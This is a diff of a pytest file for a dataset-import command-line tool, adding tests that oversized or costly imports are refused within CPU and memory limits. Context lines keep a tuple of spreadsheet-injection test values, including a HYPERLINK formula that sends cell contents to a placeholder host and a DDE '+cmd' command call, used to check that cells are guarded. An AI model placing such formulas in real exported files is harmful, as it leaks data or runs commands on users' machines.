@@ -4,18 +4,34 @@ from __future__ import annotations
 
 import csv
 import io
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 from seeds import case, cases, task, tasks
 from typer.testing import CliRunner
 
+from commanded import Server
 from digesta.cli import app
 
 FORMULAS = (
     '=HYPERLINK("http://x.invalid/?"&A1,"ok")', "+cmd|x!A1", "-1+1", "@SUM(1)", "\t=1", " =1",
     "＝1+1",
 )  # fmt: skip
+
+
+QRELS, RUN = b"q 0 c 5\n", b"q Q0 c 1 0.5 t\n"
+HEADER = cases(case())["Finlaw_dataset.csv"].split(b"\r\n")[0]
+MOST_SECONDS, MOST_MIB = 10, 350
+"""Far above what each takes (1 s, 230 MiB), far below what it took."""
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[Server]:
+    made = Server()
+    made.run(["import", "trec", "none.txt", "-o", "none"], warm=True)
+    yield made
+    made.end()
 
 
 def digesta(*arguments: object) -> None:
@@ -59,3 +75,56 @@ def test_a_cell_that_was_guarded_is_imported_as_it_was(text: str, tmp_path: Path
     digesta("import", "frenchlaw", tmp_path / "out", "-o", tmp_path / "again")
     again = (tmp_path / "again" / "questions.jsonl").read_bytes()
     assert again == (draft / "questions.jsonl").read_bytes()
+
+
+@pytest.mark.parametrize(
+    ("form", "files", "problem"),
+    [
+        ("trec", {"qrels.txt": QRELS * 1_500_000}, "1500000 lines; expected at most 100000 lines"),
+        ("trec", {"qrels.txt": QRELS, "run.txt": RUN * 300_000}, "expected at most 250000 lines"),
+        ("trec", {"qrels.txt": QRELS + b"\n" * (60 << 20)}, "line-count"),
+        ("legalagent", {"a.jsonl": b'{"query":1}\n' * 2_000_000}, "line-count"),
+        ("finlaw", {"a.csv": HEADER + b"\n" + b"x\n" * 2_000_000}, "line-count"),
+        ("finlaw", {"a.csv": HEADER + ",违规事".encode() * 1_000_000}, "unknown-column; got"),
+        ("finlaw", {f"{n}.csv": bytes(8 << 20) for n in range(9)}, "at most 67108864 bytes"),
+    ],
+    ids=["qrels", "run", "empty lines", "JSON lines", "rows", "columns", "files"],
+)
+def test_an_import_that_is_dear_to_read_is_refused_cheaply(
+    form: str, files: dict[str, bytes], problem: str, tmp_path: Path, server: Server
+) -> None:
+    source = tmp_path / "source"
+    source.mkdir()
+    for name, data in files.items():
+        (source / name).write_bytes(data)
+
+    done = server.run(["import", form, str(source), "-o", str(tmp_path / "draft")])
+
+    assert done.codes == [1]
+    assert problem in done.said[0]
+    assert "; fix: " in done.said[0]
+    assert done.cpu_seconds[0] < MOST_SECONDS
+    assert done.peak_mib[0] < MOST_MIB
+    assert not (tmp_path / "draft").exists()
+
+
+def test_a_file_of_many_gigabytes_is_refused_before_it_is_read(
+    tmp_path: Path, server: Server
+) -> None:
+    draft = imported(tmp_path, "trec", {"qrels.txt": QRELS})
+    for folder in (tmp_path, draft):
+        with (folder / "a.bin").open("wb") as sparse:
+            sparse.truncate(20 << 30)
+    named = [str(tmp_path / name) for name in ("qrels.txt", "a.bin")]
+
+    out = ["-o", str(tmp_path / "out")]
+    for command in (
+        ["import", "trec", *named, *out],
+        ["import", "trec", str(tmp_path), *out],
+        ["export", "trec", str(draft), *out],
+        ["release", "cut", str(draft)],
+    ):
+        done = server.run(command)
+        assert done.codes == [1], done.said
+        assert "a.bin: file-size; got 21474836480 of " in done.said[0]
+        assert done.peak_mib[0] < MOST_MIB
